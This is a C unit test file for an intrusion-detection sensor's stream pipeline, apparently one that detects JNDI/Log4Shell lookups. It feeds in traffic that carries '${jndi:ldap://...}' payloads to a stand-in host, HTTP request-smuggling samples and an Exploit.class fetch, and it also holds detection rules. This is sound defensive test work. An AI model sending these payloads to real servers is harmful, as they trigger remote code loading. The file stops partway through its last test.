/* Tests of sensor/app/pipeline: the verbs between streams and events, with real decoders and a real
 * engine. Streams are played by hand; events are caught before the writer. */
#include "sensor/app/pipeline.h"
#include "sensor/base/budget.h"
#include "sensor/base/bytes.h"
#include "sensor/base/mem.h"
#include "sensor/output/writer.h"
#include "tests/unit/runner.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

/* --- what catches the events -------------------------------------------------------------------
 */

struct sink {
    char text[256 * 1024];
    size_t len;
};

static struct sink caught;

static int catch_open(const struct sink_options *options, struct sink **ret_sink,
                      struct errbuf *err)
{
    (void)options;
    (void)err;
    caught.len = 0;
    *ret_sink = &caught;
    return 0;
}

static int catch_write(struct sink *s, const struct sink_block *block,
                       struct sink_result *ret_result)
{
    CU_ASSERT_FATAL(block->lines.len < sizeof(s->text) - s->len);
    bytes_copy(s->text + s->len, block->lines.data, block->lines.len);
    s->len += block->lines.len;
    ret_result->n_written = block->n_lines;
    return 0;
}

static int catch_flush(struct sink *s)
{
    (void)s;
    return 0;
}

static int catch_reopen(struct sink *s, struct errbuf *err)
{
    (void)s;
    (void)err;
    return 0;
}

static void catch_close(struct sink **s)
{
    *s = NULL;
}

static const struct sink_ops sink_catch = {
    .name = "catch",
    .open = catch_open,
    .write = catch_write,
    .flush = catch_flush,
    .reopen = catch_reopen,
    .close = catch_close,
};

static char empty[] = "";
static const struct config_output catch_config = {.type = empty, .target = empty, .prefix = empty};

/* --- the scene -----------------------------------------------------------------------------------
 */

enum { SECOND = 1000000 };

struct scene {
    struct engine *engine;
    struct writer *writer;
    struct client_policy *clients;
    struct stats stats;
    struct report report;
    struct pipeline *pipeline;
    struct stream_user user;
    struct conn conn;
    struct sighting sightings[8];
    size_t n_sightings;
};

static void on_sighting(void *ctx, const struct sighting *sighting)
{
    struct scene *s = ctx;
    if (s->n_sightings < ARRAY_LEN(s->sightings)) {
        s->sightings[s->n_sightings++] = *sighting;
    }
}

static const char rules[] =
    "alert tcp any any -> any any (msg:\"attack\"; jndi.class:attack; flow:to_server; sid:1;)\n"
    "alert tcp any any -> any any (msg:\"answer\"; jndi.class:attack; flow:to_client; sid:2;)\n";
static const char tls_rules[] =
    "alert tls any any -> any 80 (msg:\"name\"; flow:to_server; tls.sni; "
    "content:\"a.example\"; "
    "bsize:9; sid:1;)\n"
    "alert tls any any -> any any (msg:\"other\"; tls_sni; content:\"b.example\"; sid:2;)\n"
    "alert tls any 80 -> any any (msg:\"server\"; flow:to_client; tls.version:1.2; sid:3;)\n"
    "alert tcp any any -> any any (msg:\"old\"; ssl_version:tls1.0; sid:4;)\n"
    "alert tcp any any -> any any (msg:\"not old\"; flow:to_server; ssl_version:!tls1.0; "
    "tls.sni; dotprefix; content:\".example\"; endswith; sid:5;)\n"
    "alert tcp any any -> any any (msg:\"raw\"; content:\"|16 03 01|\"; depth:3; sid:6;)\n"
    "alert tls any any -> any any (msg:\"any\"; flow:to_client; ssl_version:tls1.1,tls1.2; "
    "sid:7;)\n"
    "alert tls any any -> any any (msg:\"none\"; flow:to_client; ssl_version:!tls1.1,tls1.2; "
    "sid:8;)\n"
    "alert http any any -> any any (msg:\"m\"; app-layer-event:http.missing_host_header; sid:9;)\n";
static const char drop_rules[] =
    "drop tcp any any -> any any (msg:\"attack\"; jndi.class:attack; sid:1;)\n";

static void open_conn(struct scene *s, unsigned marks)
{
    s->conn = (struct conn){.id = 4711, .proto = IP_PROTO_TCP, .port = {40000, 80}, .marks = marks};
    CU_ASSERT_FATAL(addr_parse(SPAN("192.0.2.4"), &s->conn.addr[TO_SERVER]));
    CU_ASSERT_FATAL(addr_parse(SPAN("198.51.100.7"), &s->conn.addr[TO_CLIENT]));
    s->conn.start_us = s->conn.last_us = s->conn.clock_us = 1000 * (uint64_t)SECOND;
    CU_ASSERT_EQUAL(s->user.ops->open(s->user.ctx, &s->conn), 0);
}

/* Compiling takes most of a second: once for each text. */
static struct engine *engines[3];

static struct engine *engine_of(const char *rule_text)
{
    struct engine **engine = &engines[rule_text == drop_rules ? 1 : rule_text == tls_rules ? 2 : 0];
    struct engine_text text = {"test.rules", span_str(rule_text)};
    struct engine_options options = {
        .texts = &text, .n_texts = 1, .cache_dir = getenv("JNDIWATCH_TEST_CACHE")};
    struct errbuf err = {0};
    if (*engine == NULL) {
        CU_ASSERT_EQUAL_FATAL(engine_new(&options, engine, &err), 0);
        CU_ASSERT(errbuf_is_empty(&err));
    }
    return *engine;
}

static void begin(struct scene *s, const char *rule_text)
{
    struct errbuf err = {0};
    struct writer_options writer = {.n_producers = 1, .queue = 64};
    *s = (struct scene){0};
    s->engine = engine_ref(engine_of(rule_text));
    CU_ASSERT_EQUAL_FATAL(writer_new(&writer, &s->writer), 0);
    struct outlet_options output = {
        .ops = &sink_catch, .config = &catch_config, .name = "x", .host = "", .types = ~0u};
    CU_ASSERT_EQUAL_FATAL(writer_add_output(s->writer, &output, &err), 0);
    CU_ASSERT_EQUAL_FATAL(
        client_policy_new(&(struct config_list){0}, &(struct config_list){0}, &s->clients, &err),
        0);
    s->report = (struct report){
        .eve = eve_new(&(struct eve_options){.host = "", .line_bytes = 16384}),
        .geo = geo_cache_new(NULL, &s->stats),
        .clients = s->clients,
        .writer = s->writer,
        .types = ~0u,
        .stats = &s->stats,
    };
    struct pipeline_options p = {
        .report = s->report,
        .engine = s->engine,
        .detect = detect_limits_default(),
        .limits = {.line_bytes = 4096,
                   .head_bytes = 16384,
                   .inflate_bytes = 1 << 20,
                   .inflate_ratio = 1000,
                   .encoding_depth = 4,
                   .mime_depth = 8,
                   .open_tx = 16},
        .kept_field_bytes = 1024,
        .kept_tx_bytes = 65536,
        .block = {.enforces = true},
        .file_hash = "sha1",
        .sightings = {on_sighting, s},
    };
    s->pipeline = pipeline_new(&p);
    CU_ASSERT_PTR_NOT_NULL_FATAL(s->pipeline);
    s->user = pipeline_user(s->pipeline);
    open_conn(s, 0);
}

static void give(struct scene *s, enum direction dir, const char *text)
{
    s->user.ops->data(s->user.ctx, &s->conn, dir, span_str(text));
}

static void pass(struct scene *s, uint64_t us)
{
    s->conn.clock_us += us;
    s->conn.last_us += us;
    pipeline_advance(s->pipeline, s->conn.clock_us);
    writer_advance(s->writer, 0, s->conn.clock_us);
    writer_flush(s->writer);
}

static size_t count(const char *what)
{
    size_t n = 0;
    size_t at = 0;
    struct span all = span_of(caught.text, caught.len);
    while ((at = span_find(all, at, span_str(what))) != SPAN_NONE) {
        n++;
        at++;
    }
    return n;
}

static void end(struct scene *s)
{
    s->user.ops->close(s->user.ctx, &s->conn, CLOSE_FIN);
    conn_release(&s->conn);
    pipeline_free(&s->pipeline);
    writer_free(&s->writer);
    eve_free(&s->report.eve);
    geo_cache_free(&s->report.geo);
    client_policy_free(&s->clients);
    engine_unref(&s->engine);
}

#define ALERT      "\"event_type\":\"alert\""
#define ATTACK     "${jndi:ldap://203.0.113.9/a}"
#define GET(agent) "GET /x HTTP/1.1\r\nHost: a.example\r\nUser-Agent: " agent "\r\n\r\n"

/* --- memory
 * ---------------------------------------------------------------------------------------- */

/* A flow that is remembered after both ends said FIN needs nothing any more, unless something was
 * told of it that must not be told twice. */
static void what_reads_a_flow_goes_when_both_directions_ended(void)
{
    static const struct {
        const char *request;
        bool stays;
    } rows[] = {{GET("curl"), false}, {GET(ATTACK), true}};
    for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
        struct scene s;
        struct budget budget;
        begin(&s, rules);
        budget_start(&budget, SIZE_MAX);
        give(&s, TO_SERVER, rows[i].request);
        give(&s, TO_CLIENT, "HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok");
        s.user.ops->end(s.user.ctx, &s.conn, TO_SERVER);
        size_t before = budget_used(&budget);
        CU_ASSERT_PTR_NOT_NULL(s.conn.app);
        s.user.ops->end(s.user.ctx, &s.conn, TO_CLIENT);
        CU_ASSERT(budget_used(&budget) < before);
        CU_ASSERT_EQUAL(s.conn.app != NULL, rows[i].stays);
        CU_ASSERT_EQUAL(stats_get(&s.stats, STAT_TX_WRITTEN), 1);
        end(&s);
        CU_ASSERT_EQUAL(stats_get(&s.stats, STAT_TX_WRITTEN), 1);
    }
}

/* --- region, field, finding
 * ------------------------------------------------------------------------ */

static void a_finding_is_made_when_its_field_is_complete(void)
{
    struct scene s;
    begin(&s, drop_rules);
    give(&s, TO_SERVER, "GET /x HTTP/1.1\r\nUser-Agent: ${jndi:ldap://203.0.113.9/a}\r\n");
    CU_ASSERT_EQUAL(s.conn.verdict, VERDICT_PASS);
    give(&s, TO_SERVER, "Host: a.example\r\n\r\n");
    CU_ASSERT_EQUAL(s.conn.verdict, VERDICT_DROP); /* before any answer, before any event */
    CU_ASSERT_EQUAL(caught.len, 0);
    end(&s);
    CU_ASSERT_EQUAL(count(ALERT), 1);
    CU_ASSERT_EQUAL(count("\"field\":\"http.user_agent\""), 1);
}

/* A verdict is wanted of each packet: what waits for more bytes is judged as it is. */
static void what_waits_for_its_end_is_judged_before_its_packet_goes_on(void)
{
    static const struct {
        const char *start; /* bytes that no attack is in yet */
        const char *rest;  /* bytes that complete it; the body goes on behind them */
    } rows[] = {
        {"some protocol\r\n${jndi:ldap://203", ".0.113.9/a} and more\r\n"},
        {"POST /x HTTP/1.1\r\nContent-Length: 9999\r\n\r\n{\"a\":\"${jndi:ldap://203.0.113.9/a",
         "}\","},
        {"POST /x HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n"
         "1f\r\n123456${jndi:ldap://203.0.113.9",
         "\r\n4\r\n/ab}\r\n"},
    };
    for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
        struct scene s;
        begin(&s, drop_rules);
        give(&s, TO_SERVER, rows[i].start);
        s.user.ops->judge(s.user.ctx, &s.conn);
        CU_ASSERT_EQUAL(s.conn.verdict, VERDICT_PASS);
        s.conn.number++;
        give(&s, TO_SERVER, rows[i].rest);
        s.user.ops->judge(s.user.ctx, &s.conn);
        CU_ASSERT_EQUAL(s.conn.verdict, VERDICT_DROP);
        CU_ASSERT_EQUAL(conn_extra(&s.conn)->blocked_number, s.conn.number);
        end(&s);
        CU_ASSERT_EQUAL(count(ALERT), 1); /* it is not found again at the end */
        CU_ASSERT_EQUAL(count("\"action\":\"blocked\""), 1);
    }
}

/* A client that does not wait for the replies, and whose mail has come whole with its commands. */
static void a_mail_that_waits_for_no_reply_is_judged_before_it_goes_on(void)
{
    struct scene s;
    begin(&s, drop_rules);
    give(&s, TO_CLIENT, "220 mx.example.test ESMTP\r\n");
    give(&s, TO_SERVER,
         "EHLO a.example\r\nMAIL FROM:<a@a.example>\r\nRCPT TO:<b@b.example>\r\nDATA\r\n"
         "Subject: ${jndi:ldap://203.0.113.9/a}\r\n\r\nhello\r\n.\r\nQUIT\r\n");
    s.user.ops->judge(s.user.ctx, &s.conn);
    CU_ASSERT_EQUAL(s.conn.verdict, VERDICT_DROP);
    end(&s);
}

static void an_alert_waits_for_the_answer_but_not_for_ever(void)
{
    struct scene s;
    begin(&s, rules);
    give(&s, TO_SERVER, GET(ATTACK));
    pass(&s, SECOND / 2);
    CU_ASSERT_EQUAL(count(ALERT), 0);
    give(&s, TO_CLIENT, "HTTP/1.1 204 No Content\r\n\r\n");
    pass(&s, 1);
    CU_ASSERT_EQUAL(count(ALERT), 1);
    CU_ASSERT_EQUAL(count("\"status\":204"), 2); /* in the alert and in the http event */
    give(&s, TO_SERVER, GET(ATTACK));
    pass(&s, SECOND + 1);
    pass(&s, 1);
    CU_ASSERT_EQUAL(count(ALERT), 2); /* no answer came */
    end(&s);
    CU_ASSERT_EQUAL(count(ALERT), 2);
}

static void a_body_in_pieces_is_looked_at_as_one(void)
{
    struct scene s;
    begin(&s, rules);
    give(&s, TO_SERVER, "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 32\r\n\r\n q=${jn");
    give(&s, TO_SERVER, "di:ldap://203.0.113.9/x} ");
    end(&s);
    CU_ASSERT_EQUAL(count(ALERT), 1);
}

/* --- gap
 * --------------------------------------------------------------------------------------------- */

static void bytes_around_a_gap_are_never_joined(void)
{
    struct scene s;
    begin(&s, rules);
    give(&s, TO_SERVER, "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 41\r\n\r\n q=${jn");
    s.user.ops->gap(s.user.ctx, &s.conn, TO_SERVER, 10, LOST_GAP);
    give(&s, TO_SERVER, "di:ldap://203.0.113.9/x}");
    end(&s);
    CU_ASSERT_EQUAL(count("\"class\":\"attack\""), 0);
    CU_ASSERT_EQUAL(count("\"event_type\":\"http\""), 1);
}

static void after_a_gap_the_next_request_is_found(void)
{
    struct scene s;
    begin(&s, rules);
    give(&s, TO_SERVER, "GET /one HTTP/1.1\r\nHos");
    s.user.ops->gap(s.user.ctx, &s.conn, TO_SERVER, 100, LOST_GAP);
    give(&s, TO_SERVER, "xx\r\n\r\n");
    give(&s, TO_SERVER, GET(ATTACK));
    end(&s);
    CU_ASSERT_EQUAL(count(ALERT), 1);
}

/* --- alternate reading
 * ------------------------------------------------------------------------------- */

static void both_readings_of_an_overlap_are_looked_at(void)
{
    struct scene s;
    begin(&s, rules);
    give(&s, TO_SERVER, GET("harmless"));
    s.user.ops->alternate(s.user.ctx, &s.conn, TO_SERVER, span_str(GET(ATTACK)));
    end(&s);
    CU_ASSERT(count(ALERT) >= 1);
    CU_ASSERT_EQUAL(count("\"event_type\":\"http\""), 1); /* a reading is no request of its own */
}

static void what_both_readings_hold_is_told_once(void)
{
    struct scene s;
    begin(&s, rules);
    give(&s, TO_SERVER, GET(ATTACK));
    s.user.ops->alternate(s.user.ctx, &s.conn, TO_SERVER, span_str(GET(ATTACK)));
    end(&s);
    CU_ASSERT_EQUAL(count("\"field\":\"http.user_agent\""), 1);
}

/* Transfer-Encoding is the main reading; who goes by Content-Length sees a second request. */
static void two_lengths_are_read_both_ways(void)
{
    struct scene s;
    begin(&s, rules);
    give(&s, TO_SERVER,
         "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n"
         "60\r\n\r\n"
         "GET /smuggled HTTP/1.1\r\nHost: a\r\nUser-Agent: ${jndi:ldap://203.0.113.9/a}\r\n\r\n");
    end(&s);
    CU_ASSERT(count("\"class\":\"attack\"") >= 1);
    CU_ASSERT_EQUAL(count("http_conflicting_length"), 1);
}

/* --- sighting, verdict, stream
 * ----------------------------------------------------------------------- */

static void sightings_tell_the_flow_and_the_attempt(void)
{
    struct scene s;
    begin(&s, rules);
    give(&s, TO_SERVER, GET("${jndi:ldap://203.0.113.9:1389/a}"));
    CU_ASSERT_EQUAL_FATAL(s.n_sightings, 2);
    CU_ASSERT_EQUAL(s.sightings[0].kind, SIGHTING_FLOW_OPEN);
    CU_ASSERT_EQUAL(s.sightings[0].conn.port[TO_CLIENT], 80);
    CU_ASSERT_EQUAL(s.sightings[1].kind, SIGHTING_ATTEMPT);
    CU_ASSERT_STRING_EQUAL(s.sightings[1].name, "203.0.113.9");
    CU_ASSERT_EQUAL(s.sightings[1].attempt.port, 1389);
    CU_ASSERT(s.sightings[1].attempt.attack_id != 0);
    CU_ASSERT_EQUAL(s.sightings[1].key.clock_us, s.conn.clock_us);
    end(&s);
}

static void rules_ask_for_anomalies(void)
{
    struct scene s;
    begin(&s, tls_rules);
    give(&s, TO_SERVER, GET("x") "GET /y HTTP/1.1\r\n\r\n");
    end(&s);
    CU_ASSERT_EQUAL(count("\"signature_id\":9,"), 1);
}

static void tls_is_told_and_passed_over(void)
{
    struct scene s;
    begin(&s, rules);
    s.user.ops->data(s.user.ctx, &s.conn, TO_SERVER,
                     SPAN("\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"));
    CU_ASSERT(!s.conn.opaque);
    s.user.ops->data(s.user.ctx, &s.conn, TO_CLIENT, SPAN("\x15\x03\x03"));
    s.user.ops->data(s.user.ctx, &s.conn, TO_CLIENT, SPAN("\x00\x02\x02\x28"));
    CU_ASSERT(s.conn.opaque);
    CU_ASSERT_EQUAL(s.conn.opaque_reason, LOST_TLS);
    end(&s);
    CU_ASSERT_EQUAL(count("\"app_proto\":\"tls\""), 1);
    CU_ASSERT_EQUAL(count("\"bytes_not_inspected_tls\":18"), 1);
}

/* A hello of TLS 1.2 that asks for a.example, and one of a server. */
#define CLIENT_HELLO                                                                               \
    "\x16\x03\x01\x00\x41\x01\x00\x00\x3d\x03\x03"                                                 \
    "0123456789abcdef0123456789abcdef"                                                             \
    "\x00\x00\x02\x00\x2f\x01\x00\x00\x12\x00\x00\x00\x0e\x00\x0c\x00\x00\x09"                     \
    "a.example"
#define SERVER_HELLO                                                                               \
    "\x16\x03\x03\x00\x2a\x02\x00\x00\x26\x03\x03"                                                 \
    "0123456789abcdef0123456789abcdef"                                                             \
    "\x00\x00\x2f\x00"

static void rules_see_the_hellos_of_tls(void)
{
    struct scene s;
    begin(&s, tls_rules);
    s.user.ops->data(s.user.ctx, &s.conn, TO_SERVER, SPAN(CLIENT_HELLO));
    CU_ASSERT(!s.conn.opaque);
    s.user.ops->data(s.user.ctx, &s.conn, TO_CLIENT, SPAN(SERVER_HELLO "\x17\x03\x03"));
    CU_ASSERT(s.conn.opaque);
    end(&s);
    CU_ASSERT_EQUAL(count(ALERT), 5);
    CU_ASSERT_EQUAL(count("\"signature_id\":2,"), 0);
    CU_ASSERT_EQUAL(count("\"signature_id\":4,"), 0);
    CU_ASSERT_EQUAL(count("\"signature_id\":7,"), 1);
    CU_ASSERT_EQUAL(count("\"signature_id\":8,"), 0);
    CU_ASSERT_EQUAL(count("\"bytes_not_inspected_tls\":3"), 1);
    CU_ASSERT_EQUAL(count("\"tls\":{\"sni\":\"a.example\",\"version\":\"TLS 1.2\"}"), 6);
}

static void an_unknown_protocol_hides_nothing(void)
{
    struct scene s;
    begin(&s, rules);
    give(&s, TO_SERVER, "\x10\x02 login ${jndi:ld");
    give(&s, TO_SERVER, "ap://203.0.113.9/a} \x01\x02");
    end(&s);
    CU_ASSERT_EQUAL(count(ALERT), 1);
    CU_ASSERT_EQUAL(count("\"field\":\"tcp.payload\""), 1);
}

static void the_contents_decide_who_is_the_server(void)
{
    struct scene s;
    begin(&s, rules);
    s.user.ops->close(s.user.ctx, &s.conn, CLOSE_FIN);
    open_conn(&s, CONN_MIDSTREAM);
    give(&s, TO_SERVER, "rest of something\r\n");
    give(&s, TO_SERVER, GET(ATTACK));
    end(&s);
    CU_ASSERT_EQUAL(count(ALERT), 1);
    CU_ASSERT_EQUAL(count("\"midstream\""), 3); /* in alert, http and flow */
}

static void a_first_line_in_single_bytes_is_still_recognised(void)
{
    struct scene s;
    begin(&s, rules);
    const char *text = GET(ATTACK);
    for (size_t i = 0; text[i] != '\0'; i++) {
        s.user.ops->data(s.user.ctx, &s.conn, TO_SERVER, span_of(text + i, 1));
    }
    end(&s);
    CU_ASSERT_EQUAL(count("\"field\":\"http.user_agent\""), 1);
}

/* CONNECT, and in it a mail: each direction is read as what it is. */
static void what_a_tunnel_carries_is_decoded(void)
{
    struct scene s;
    begin(&s, rules);
    give(&s, TO_SERVER, "CONNECT mail.example:25 HTTP/1.1\r\nHost: mail.example:25\r\n\r\n");
    give(&s, TO_CLIENT, "HTTP/1.1 200 OK\r\n\r\n220 mail.example ESMTP\r\n");
    give(&s, TO_SERVER, "EHLO " ATTACK "\r\nMAIL FROM:<a@b>\r\n");
    end(&s);
    CU_ASSERT_EQUAL(count("\"event_type\":\"http\""), 1);
    CU_ASSERT_EQUAL(count("\"event_type\":\"smtp\""), 1);
    CU_ASSERT_EQUAL(count("\"field\":\"smtp.helo\""), 1);
}

/* Two readings of a request; for the one CONNECT follows, for the other (Content-Length) a body of
 * 49 bytes that holds the CONNECT and the tunnel's first line, then a request with a look-up that
 * only chunks put together. */
static void other_readings_go_on_behind_a_hand_over(void)
{
    struct scene s;
    begin(&s, rules);
    give(&s, TO_SERVER,
         "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n"
         "31\r\n"
         "POST /s HTTP/1.1\r\nHost: a\r\nContent-Length: 49\r\n\r\n"
         "\r\n0\r\n\r\nCONNECT b:25 HTTP/1.1\r\nHost: b\r\n\r\n");
    give(&s, TO_CLIENT, "HTTP/1.1 204 No Content\r\n\r\nHTTP/1.1 200 OK\r\n\r\n220 b ESMTP\r\n");
    give(&s, TO_SERVER,
         "EHLO x\r\nPOST /y HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n"
         "5\r\n${jnd\r\n17\r\ni:ldap://203.0.113.9/a}\r\n0\r\n\r\n");
    end(&s);
    CU_ASSERT_EQUAL(count("\"event_type\":\"smtp\""), 1);
    CU_ASSERT_EQUAL(count("\"field\":\"http.request_body\""), 1);
}

static void a_proxy_header_is_passed_and_its_client_told(void)
{
    struct scene s;
    struct addr told;
    CU_ASSERT_FATAL(addr_parse(SPAN("203.0.113.50"), &told));
    begin(&s, rules);
    give(&s, TO_SERVER, "PROXY TCP4 203.0.113.50 192.0.2.4 5000 80\r\n" GET(ATTACK));
    give(&s, TO_CLIENT, "HTTP/1.1 204 No Content\r\n\r\n");
    CU_ASSERT(addr_equal(&conn_extra(&s.conn)->told_client, &told));
    end(&s);
    CU_ASSERT_EQUAL(count("\"field\":\"http.user_agent\""), 1);
    CU_ASSERT_EQUAL(count("\"status\":204"), 2); /* in alert and http */
}

/* RFC 1928 section 4, and RFC 6455 section 5.2, cut: what was held of them is handed over when the
 * flow closes, and is looked into. */
static void what_is_held_at_the_end_is_handed_over(void)
{
    struct scene s;
    begin(&s, rules);
    s.user.ops->data(s.user.ctx, &s.conn, TO_SERVER, span_of("\x05\x01\x00", 3));
    s.user.ops->data(s.user.ctx, &s.conn, TO_CLIENT, span_of("\x05\x00", 2));
    s.user.ops->data(s.user.ctx, &s.conn, TO_SERVER, span_of("\x05\x01\x00\x03\x7f", 5));
    give(&s, TO_SERVER, ATTACK);
    end(&s);
    CU_ASSERT_EQUAL(count("\"event_type\":\"alert\""), 1);
    begin(&s, rules);
    give(&s, TO_SERVER, "GET / HTTP/1.1\r\nHost: a\r\nUpgrade: websocket\r\n\r\n");
    give(&s, TO_CLIENT, "HTTP/1.1 101 Switching\r\nUpgrade: websocket\r\n\r\n");
    s.user.ops->data(s.user.ctx, &s.conn, TO_CLIENT, span_of("\x81\x7e", 2));
    s.user.ops->gap(s.user.ctx, &s.conn, TO_CLIENT, 70000, LOST_GAP);
    end(&s);
    CU_ASSERT_EQUAL(count("\"event_type\":\"http\""), 1);
}

/* RFC 7540 section 3.2: 101, then the preface and SETTINGS; here with a request of its own, literal
 * header fields without Huffman (RFC 7541 section 6.2.2). */
static void an_upgrade_to_http2_is_followed(void)
{
    static const char frames[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
                                 "\0\0\0\x04\0\0\0\0\0"
                                 "\0\0\x23\x01\x05\0\0\0\x03"
                                 "\x82\x84\x86"
                                 "\0\x01x\x1c" ATTACK;
    struct scene s;
    begin(&s, rules);
    give(&s, TO_SERVER, "GET / HTTP/1.1\r\nHost: a\r\nUpgrade: h2c\r\n\r\n");
    give(&s, TO_CLIENT, "HTTP/1.1 101 Switching Protocols\r\nUpgrade: h2c\r\n\r\n");
    s.user.ops->data(s.user.ctx, &s.conn, TO_SERVER, span_of(frames, sizeof(frames) - 1));
    end(&s);
    CU_ASSERT_EQUAL(count("\"field\":\"http.request_header.x\""), 1);
    CU_ASSERT_EQUAL(count("\"stream_id\":3"), 2); /* in alert and http */
    CU_ASSERT_EQUAL(count("\"app_proto\":\"http2\""), 3);
}

/* The first line of the preface (RFC 9113 section 3.4) is a request's, too. */
static void a_preface_of_http2_in_pieces_is_no_request(void)
{
    static const char frames[] = "SM\r\n\r\n"
                                 "\0\0\0\x04\0\0\0\0\0"
                                 "\0\0\x23\x01\x05\0\0\0\x01"
                                 "\x82\x84\x86"
                                 "\0\x01x\x1c" ATTACK;
    struct scene s;
    begin(&s, rules);
    give(&s, TO_SERVER, "PRI * HTTP/2.0\r\n");
    give(&s, TO_SERVER, "\r\n");
    s.user.ops->data(s.user.ctx, &s.conn, TO_SERVER, span_of(frames, sizeof(frames) - 1));
    end(&s);
    CU_ASSERT_EQUAL(count("\"field\":\"http.request_header.x\""), 1);
    CU_ASSERT_EQUAL(count("PRI"), 0);
}

static void uploads_and_attachments_are_files(void)
{
    struct scene s;
    begin(&s, rules);
    give(&s, TO_SERVER,
         "POST /up HTTP/1.1\r\nHost: a\r\nContent-Length: 135\r\n"
         "Content-Type: multipart/form-data; boundary=b\r\n\r\n"
         "--b\r\nContent-Disposition: form-data; name=t\r\n\r\nno file\r\n"
         "--b\r\nContent-Disposition: form-data; name=u; filename=\"u.txt\"\r\n\r\nfi");
    give(&s, TO_SERVER, "ve!\r\n--b--\r\n");
    give(&s, TO_SERVER,
         "PUT /dir/put.bin?q=/x HTTP/1.1\r\nHost: a\r\nContent-Length: 9\r\n\r\nabc");
    end(&s);
    CU_ASSERT_EQUAL(count("\"event_type\":\"fileinfo\""), 2);
    CU_ASSERT_EQUAL(
        count("\"fileinfo\":{\"filename\":\"u.txt\",\"gaps\":false,\"state\":\"CLOSED\","
              "\"sha1\":\"cb12ead1bbef151ae2e0ad4bf15df4743b921c6c\","
              "\"stored\":false,\"size\":5,\"tx_id\":0}"),
        1);
    CU_ASSERT_EQUAL(count("\"fileinfo\":{\"filename\":\"put.bin\",\"gaps\":false,"
                          "\"state\":\"TRUNCATED\",\"stored\":false,\"size\":3,\"tx_id\":1}"),
                    1);
    begin(&s, rules);
    give(&s, TO_CLIENT, "220 a ESMTP\r\n");
    give(&s, TO_SERVER,
         "EHLO a\r\nMAIL FROM:<a@b>\r\nRCPT TO:<c@d>\r\nDATA\r\n"
         "Content-Type: application/x-any; name=x\r\nContent-Transfer-Encoding: base64\r\n"
         "Content-Disposition: attachment; filename=m.bin\r\n\r\nYWJj\r\nZGVm\r\n.\r\n");
    end(&s);
    CU_ASSERT_EQUAL(
        count("\"fileinfo\":{\"filename\":\"m.bin\",\"gaps\":false,\"state\":\"CLOSED\","
              "\"sha1\":\"1f8ac10f23c5b5bc1167bda84b833e5c057a77d2\","
              "\"stored\":false,\"size\":6,\"tx_id\":0}"),
        1);
}

/* The answer comes while the upload is under way: neither is taken for the other. */
static void delivered_java_code_is_a_file(void)
{
    struct scene s;
    begin(&s, rules);
    give(&s, TO_SERVER, "PUT /a.bin HTTP/1.1\r\nHost: a\r\nContent-Length: 4\r\n\r\nab");
    give(&s, TO_CLIENT, "HTTP/1.1 200 OK\r\nContent-Length: 6\r\n\r\n\xca\xfe\xba\xbe!");
    give(&s, TO_SERVER, "cd");
    give(&s, TO_CLIENT, "!");
    give(&s, TO_SERVER, "GET /x/Exploit.class?1 HTTP/1.1\r\nHost: a\r\n\r\n");
    give(&s, TO_CLIENT, "HTTP/1.1 200 OK\r\nContent-Length: 3\r\n\r\nxyz");
    give(&s, TO_SERVER, "GET /page HTTP/1.1\r\nHost: a\r\n\r\n");
    give(&s, TO_CLIENT, "HTTP/1.1 200 OK\r\nContent-Length: 3\r\n\r\nxyz");
    end(&s);
    CU_ASSERT_EQUAL(count("\"event_type\":\"fileinfo\""), 3);
    CU_ASSERT_EQUAL(count("\"stored\":false,\"size\":4,\"tx_id\":0"), 1);
    CU_ASSERT_EQUAL(count("\"stored\":false,\"size\":6,\"tx_id\":0"), 1);
    CU_ASSERT_EQUAL(count("\"fileinfo\":{\"filename\":\"Exploit.class\""), 1);
}

static void urls_in_the_text_of_a_mail_are_listed(void)
{
    struct scene s;
    static const char mail[] =
        "EHLO a\r\nMAIL FROM:<a@b>\r\nRCPT TO:<c@d>\r\nDATA\r\nSubject: x\r\n\r\n"
        "See http://a.example/1?x=y, HTTPS://b.example. Not http:/c nor mailto:d@e.\r\n"
        "<a href=\"http://a.example/2\">http://a.example/2</a> ftp://f.example/\r\n.\r\n";
    begin(&s, rules);
    give(&s, TO_CLIENT, "220 a ESMTP\r\n");
    for (size_t i = 0; i < sizeof(mail) - 1; i++) {
        s.user.ops->data(s.user.ctx, &s.conn, TO_SERVER, span_of(mail + i, 1));
    }
    end(&s);
    CU_ASSERT_EQUAL(count("\"url\":[\"http://a.example/1?x=y\",\"https://b.example\","
                          "\"http://a.example/2\",\"ftp://f.example/\"]"),
                    1);
}

/* Headers in headers: the innermost are not told apart any more, but hide nothing. */
static void tunnels_in_tunnels_hide_nothing(void)
{
    struct scene s;
    begin(&s, rules);
    for (unsigned i = 0; i < 20; i++) {
        give(&s, TO_SERVER, "PROXY TCP4 203.0.113.50 192.0.2.4 5000 80\r\n");
    }
    give(&s, TO_SERVER, GET(ATTACK));
    end(&s);
    CU_ASSERT_EQUAL(count(ALERT), 1);
    CU_ASSERT_EQUAL(count("\"field\":\"tcp.payload\""), 1);
}

static void a_gap_in_a_tunnel_is_told_to_what_is_inside(void)
{
    struct scene s;
    begin(&s, rules);
    give(&s, TO_SERVER, "PROXY TCP4 203.0.113.50 192.0.2.4 5000 80\r\nGET /${jndi:ld");
    s.user.ops->gap(s.user.ctx, &s.conn, TO_SERVER, 3, LOST_GAP);
    give(&s, TO_SERVER, "ap://203.0.113.9/b} HTTP/1.1\r\nHost: a\r\n\r\n" GET(ATTACK));
    end(&s);
    CU_ASSERT_EQUAL(count(ALERT), 1);
    CU_ASSERT_EQUAL(count("\"field\":\"http.user_agent\""), 1);
}

/* Every allocation fails once: nothing leaks, nothing crashes, every event is whole or not there.
 */
static void an_empty_heap_costs_events_only(void)
{
    for (size_t n = 1; n < 60; n++) {
        struct scene s;
        begin(&s, rules);
        mem_fail_at(n, 0);
        give(&s, TO_SERVER, GET(ATTACK));
